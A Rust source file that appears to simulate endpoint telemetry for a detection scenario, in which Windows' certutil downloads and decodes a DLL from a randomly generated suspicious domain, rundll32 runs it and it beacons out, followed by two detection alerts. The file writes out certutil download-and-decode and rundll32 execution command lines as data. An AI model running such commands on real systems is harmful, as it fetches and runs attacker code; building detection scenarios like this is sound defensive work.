//! Windows' own programs fetch, decode and run a library.

use super::{Activity, Cast, Detection, Disposition, techniques as t};

pub fn tell(cast: &mut Cast<'_>) {
    let (domain, address) = (cast.strange_domain(), cast.strange_address());
    let stem = cast.draw.letters(6);
    let (text, library) = (
        format!(r"C:\Users\Public\{stem}.txt"),
        format!(r"C:\Users\Public\{stem}.dll"),
    );
    let explorer = cast.desktop();
    let browser = cast.process(
        -400_000,
        explorer,
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" "#,
    );
    let batch = format!(r"{}\Downloads\view_{stem}.bat", cast.profile());
    cast.writes(-12_000, browser, &batch);
    let shell = cast.process(
        0,
        explorer,
        r"C:\Windows\System32\cmd.exe",
        &format!(r#"C:\Windows\system32\cmd.exe /c ""{batch}" ""#),
    );
    let url = format!("http://{domain}/a/{stem}.txt");
    let fetch = cast.process(
        1_300,
        shell,
        r"C:\Windows\System32\certutil.exe",
        &format!("certutil.exe  -urlcache -split -f {url} {text}"),
    );
    cast.does(
        1_700,
        fetch,
        Activity::Dns {
            name: domain.clone(),
            answers: vec![address.clone()],
        },
    );
    cast.does(
        1_850,
        fetch,
        Activity::Connect {
            address: address.clone(),
            port: 80,
            user_agent: Some("CertUtil URL Agent".to_owned()),
            url: Some(url),
        },
    );
    cast.writes(2_600, fetch, &text);
    cast.ends(fetch, 3_000);
    let decode = cast.process(
        3_200,
        shell,
        r"C:\Windows\System32\certutil.exe",
        &format!("certutil  -decode {text} {library}"),
    );
    cast.does(3_300, decode, Activity::FileRead { path: text.clone() });
    cast.writes(3_500, decode, &library);
    cast.ends(decode, 3_600);
    let run = cast.process(
        4_100,
        shell,
        r"C:\Windows\System32\rundll32.exe",
        &format!("rundll32.exe  {library},Start"),
    );
    cast.does(
        4_300,
        run,
        Activity::ModuleLoad {
            path: library.clone(),
            signer: None,
        },
    );
    cast.does(
        6_000,
        run,
        Activity::Dns {
            name: domain,
            answers: vec![address.clone()],
        },
    );
    cast.does(
        6_200,
        run,
        Activity::Connect {
            address: address.clone(),
            port: 8443,
            user_agent: None,
            url: None,
        },
    );
    cast.does(
        66_200,
        run,
        Activity::Connect {
            address,
            port: 8443,
            user_agent: None,
            url: None,
        },
    );
    let delete = cast.process(
        9_000,
        shell,
        r"C:\Windows\System32\cmd.exe",
        &format!("cmd /c del {text}"),
    );
    cast.ends(delete, 9_200);

    cast.detects(Detection {
        at: 2_000,
        process: fetch,
        pattern: 10331,
        name: "CertutilRemoteFile",
        description: "Certutil was used to retrieve a file from a remote location. Adversaries use this to bring in tools. Review the command line.",
        severity: 70,
        confidence: 80,
        technique: t::TOOL_TRANSFER,
        disposition: Disposition::Detected,
        prevalence: ("common", "low"),
    });
    cast.detects(Detection {
        at: 4_400,
        process: run,
        pattern: 10238,
        name: "RundllUncommonLibrary",
        description: "A rundll32 process loaded a library from an unusual folder. Review the loaded file.",
        severity: 50,
        confidence: 80,
        technique: t::RUNDLL32,
        disposition: Disposition::Detected,
        prevalence: ("common", "common"),
    });
}
